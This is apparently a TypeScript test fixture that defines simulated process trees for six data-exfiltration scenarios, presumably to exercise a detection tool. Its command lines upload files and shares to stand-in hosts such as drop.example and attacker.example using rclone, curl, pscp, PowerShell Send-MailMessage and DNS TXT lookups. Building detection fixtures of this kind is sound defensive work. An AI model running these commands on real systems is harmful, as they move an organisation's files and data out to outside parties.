import type { Scenario } from '../../src/simulation/scenario.ts'
import { connection, process, scenario, script } from './scenario-parts.ts'

const shell = (id: string, commandLine: string, children: Scenario['processes'], isRunning = false): Scenario =>
  scenario(id, [process({ id: 'shell', image: 'C:\\Windows\\System32\\cmd.exe', commandLine, isRunning, children })])

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'

export const RCLONE = shell(
  'rclone',
  'cmd.exe',
  [
    process({
      id: 'rclone',
      image: 'C:\\Users\\Public\\rclone.exe',
      commandLine:
        'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 192.0.2.1 --sftp-user up --sftp-pass x -v',
      version: { originalFileName: 'rclone.exe' },
      connections: [connection({ to: '192.0.2.1', port: 22, service: 'ssh' })],
    }),
  ],
  true,
)

export const CURL = shell(
  'curl',
  'cmd.exe /c curl.exe -k --upload-file C:\\Users\\j.doe\\a.zip https://drop.example/in',
  [
    process({
      id: 'curl',
      image: 'C:\\Windows\\System32\\curl.exe',
      commandLine: 'curl.exe -k --upload-file C:\\Users\\j.doe\\a.zip https://drop.example/in',
      version: { originalFileName: 'curl.exe' },
      connections: [connection({ to: '203.0.113.9', port: 443, hostname: 'drop.example', service: 'ssl' })],
    }),
  ],
)

export const MAIL = scenario('mail', [
  process({
    id: 'mail',
    image: POWERSHELL,
    commandLine:
      'powershell.exe -NoProfile -Command "Send-MailMessage -From a@corp.example -To b@drop.example -Subject x -SmtpServer 203.0.113.25 -Attachments C:\\Users\\Public\\a.zip"',
    version: { originalFileName: 'PowerShell.EXE' },
    scripts: [
      script(
        'Send-MailMessage -From a@corp.example -To b@drop.example -Subject x -SmtpServer 203.0.113.25 -Attachments C:\\Users\\Public\\a.zip',
        [{ name: 'Send-MailMessage', parameters: { SmtpServer: '203.0.113.25' } }],
      ),
    ],
    connections: [connection({ to: '203.0.113.25', port: 25, service: 'smtp' })],
  }),
])

export const LOOKUP = scenario('lookup', [
  process({
    id: 'shell',
    image: POWERSHELL,
    commandLine: 'powershell.exe',
    isRunning: true,
    scripts: [script('nslookup.exe -type=TXT 4a6f.attacker.example')],
    children: [
      process({
        id: 'nslookup',
        image: 'C:\\Windows\\System32\\nslookup.exe',
        commandLine: '"C:\\Windows\\System32\\nslookup.exe" -type=TXT 4a6f.attacker.example',
        version: { originalFileName: 'nslookup.exe' },
        lookups: [
          {
            at: 500,
            name: '4a6f.attacker.example',
            type: 'TXT',
            answers: [],
            status: 'NOERROR',
            by: 'self',
            server: '10.20.0.2',
          },
        ],
        connections: [connection({ to: '10.20.0.2', port: 53, transport: 'udp', service: 'dns' })],
      }),
    ],
  }),
])

export const LINUX = scenario(
  'linux',
  [
    process({
      id: 'sh',
      image: '/usr/bin/bash',
      commandLine: "bash -c curl -F 'file=@/home/j.doe/a.tgz' https://drop.example/",
      children: [
        process({
          id: 'curl',
          image: '/usr/bin/curl',
          commandLine: "curl -F 'file=@/home/j.doe/a.tgz' https://drop.example/",
          connections: [connection({ to: '203.0.113.9', port: 443, hostname: 'drop.example', service: 'ssl' })],
        }),
      ],
    }),
  ],
  { os: 'linux' },
)

export const PUTTY = shell(
  'pscp',
  'cmd.exe',
  [
    process({
      id: 'pscp',
      image: 'C:\\Users\\Public\\pscp.exe',
      commandLine: 'pscp.exe -pw x -r C:\\Shares up@198.51.100.1:/in',
      version: { originalFileName: 'PSCP' },
      connections: [connection({ to: '198.51.100.1', port: 22, service: 'ssh' })],
    }),
  ],
  true,
)
export const ATTACKS: readonly Scenario[] = [RCLONE, CURL, MAIL, LOOKUP, LINUX, PUTTY]
